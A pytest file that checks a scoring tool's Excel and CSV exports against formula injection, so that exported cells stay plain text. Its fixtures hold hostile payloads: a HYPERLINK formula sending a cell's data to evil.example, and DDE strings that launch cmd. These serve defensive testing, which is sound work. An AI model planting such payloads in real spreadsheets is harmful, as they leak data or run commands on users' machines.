"""Spreadsheet output holds values, never formulas: scores.xlsx, scores.csv and the workbooks.

Each test reproduces a case the hostile-input review found: targets such as `=100%` stored as
formula cells, a project name `=HYPERLINK(…)` made live, `=`/`+`/`-`/`@` passed through to the CSV,
and workbooks that differed between identical runs.
"""

from __future__ import annotations

import csv
import io
import time
import zipfile
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from selfeval.batch.index import write_index
from selfeval.batch.run import Outcome
from selfeval.views.sheets import csv_bytes, csv_cell, put, workbook_bytes

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def _outcome(name="p1", project=HYPERLINK, target="=100%", **row):
    base = {
        "project_name": project, "department": "+cmd|' /C calc'!A0", "year": 2023, "ruleset": "suzhou-2023",
        "full_marks": 80.0, "self_total": 80.0, "review_total": 79.43, "review_low": 79.43, "review_high": 79.43,
        "difference": -0.57, "self_rating": "优", "rating": "良", "rating_settled": True, "rating_bands": "良", "rating_text": "良",
        "unsettled": "",
        "provisional": False, "execution_rate": 88.65, "funding_rate": 100.0, "budget": 100.0, "paid": 88.65,
        "errors": 0, "warnings": 1,
        "infos": 0,
    }
    base.update(row)
    indicators = [{
        "category_name": "过程", "name": "@SUM(1+1)*cmd|' /C calc'!A0", "target": target, "weight": 8.0,
        "actual": "-2+3", "self_score": 8.0, "rescore": 7.5, "review_score": 7.5, "difference": -0.5,
        "review_source": "claimed", "review_reason": "\tTAB", "review_reason2": "x",
    }]
    return Outcome(name=name, status="rendered", row=base, indicators=indicators)


def _failed(name="p2", reason="=1+1 params.yaml: review_date: day is out of range"):
    return Outcome(name=name, status="failed", reason=reason)


@pytest.fixture
def out(tmp_path):
    write_index([_outcome(), _failed()], tmp_path)
    return tmp_path


def _cells(path):
    wb = load_workbook(path)
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def test_scores_xlsx_has_no_formula_cells(out):
    cells = _cells(out / "scores.xlsx")
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells}
    assert "=100%" in texts and HYPERLINK in texts and "@SUM(1+1)*cmd|' /C calc'!A0" in texts


def test_scores_xlsx_reads_back_in_pandas_as_text_and_numbers(out):
    pd = pytest.importorskip("pandas")
    projects = pd.read_excel(out / "scores.xlsx", sheet_name="项目", engine="openpyxl")
    indicators = pd.read_excel(out / "scores.xlsx", sheet_name="指标", engine="openpyxl")
    assert indicators.loc[0, "目标值"] == "=100%"  # not an empty formula result
    assert projects.loc[0, "项目名称"] == HYPERLINK
    assert projects["复核总分"].dtype.kind == "f" and projects.loc[0, "复核总分"] == pytest.approx(79.43)


def test_scores_csv_neutralises_formula_triggers_and_keeps_numbers(out):
    raw = (out / "scores.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel on Chinese Windows needs the BOM
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0]["项目名称"] == "'" + HYPERLINK
    assert rows[0]["主管部门"].startswith("'+cmd")
    assert rows[0]["差异"] == "-0.57"  # a negative number is a number, not a formula
    assert rows[0]["复核总分"] == "79.43" and rows[0]["年度"] == "2023"
    assert rows[1]["失败原因"].startswith("'=1+1")
    assert rows[1]["年度"] == ""  # a failed project has no year, and the others stay 2023, not 2023.0


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+2", "@A1", "\t=1", "\r=1"])
def test_csv_cell_prefixes_every_trigger(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-1, -0.5, Decimal("-2.50"), 0, 3])
def test_csv_cell_leaves_numbers_alone(value):
    assert csv_cell(value) == value


def test_csv_cell_leaves_plain_text_alone():
    assert csv_cell("电子政务项目") == "电子政务项目" and csv_cell("—") == "—" and csv_cell(None) == ""


def test_csv_bytes_round_trip_through_the_csv_module():
    data = csv_bytes(["a", "b"], [['=x,"y"', 1], ["line\nbreak", -2]])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows == [["a", "b"], ["'=x,\"y\"", "1"], ["line\nbreak", "-2"]]


def test_put_writes_text_as_string_and_numbers_as_numbers():
    wb = Workbook()
    ws = wb.active
    put(ws, 1, 1, "=100%")
    put(ws, 1, 2, Decimal("4.58"))
    put(ws, 1, 3, True)
    put(ws, 1, 4, float("nan"))
    assert ws["A1"].data_type == "s" and ws["A1"].value == "=100%"
    assert ws["B1"].data_type == "n" and ws["B1"].value == 4.58
    assert ws["C1"].value == "是" and ws["D1"].value is None


def test_identical_runs_give_identical_workbook_bytes(tmp_path):
    a, b = tmp_path / "a", tmp_path / "b"
    write_index([_outcome(), _failed()], a)
    time.sleep(2.1)  # past the zip format's two-second clock and core.xml's one-second one
    write_index([_outcome(), _failed()], b)
    assert (a / "scores.xlsx").read_bytes() == (b / "scores.xlsx").read_bytes()
    assert (a / "scores.csv").read_bytes() == (b / "scores.csv").read_bytes()


def test_workbook_bytes_fixes_every_time_inside():
    wb = Workbook()
    wb.active["A1"] = "x"
    with zipfile.ZipFile(io.BytesIO(workbook_bytes(wb))) as zf:
        assert {i.date_time for i in zf.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        core = zf.read("docProps/core.xml").decode()
    assert "2000-01-01T00:00:00Z" in core and core.count("2000-01-01T00:00:00Z") == 2
